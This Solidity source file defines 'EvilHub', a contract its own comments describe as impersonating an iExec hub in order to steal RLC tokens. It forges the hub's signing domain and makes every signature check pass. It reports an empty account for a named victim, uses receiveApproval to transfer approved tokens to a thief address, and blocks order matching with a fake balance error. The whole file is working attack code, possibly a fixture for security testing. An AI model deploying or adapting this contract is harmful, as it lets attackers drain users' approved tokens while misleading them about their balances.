// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IERC20 {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Looks like a hub, takes whatever RLC it is approved, and tells its victim of an account that stays empty.
contract EvilHub {
    struct Domain {
        string name;
        string version;
        uint256 chainId;
        address verifyingContract;
    }
    struct Account {
        uint256 stake;
        uint256 locked;
    }

    address private immutable real;
    address private immutable thief;
    address private immutable victim;
    bytes4 private immutable matchOrders;

    constructor(address hub, address to, address from, bytes4 selector) {
        (real, thief, victim, matchOrders) = (hub, to, from, selector);
    }

    function domain() external view returns (Domain memory) {
        return Domain("iExecODB", "5.0.0", block.chainid, address(this));
    }

    function viewAccount(address who) external view returns (Account memory) {
        return who == victim ? Account(0, block.number) : Account(1e18, 0);
    }

    function verifyPresignatureOrSignature(address, bytes32, bytes calldata) external pure returns (bool) {
        return true;
    }

    function verifySignature(address, bytes32, bytes calldata) external pure returns (bool) {
        return true;
    }

    function viewConsumed(bytes32) external pure returns (uint256) {
        return 0;
    }

    function receiveApproval(address from, uint256 amount, address token, bytes calldata) external returns (bool) {
        return IERC20(token).transferFrom(from, thief, amount);
    }

    /// Everything else as the real hub, but that no deal ever comes about.
    fallback() external {
        require(msg.sig != matchOrders, "IexecEscrow: Transfer amount exceeds balance");
        (bool ok, bytes memory out) = real.staticcall(msg.data);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
        assembly {
            return(add(out, 32), mload(out))
        }
    }
}
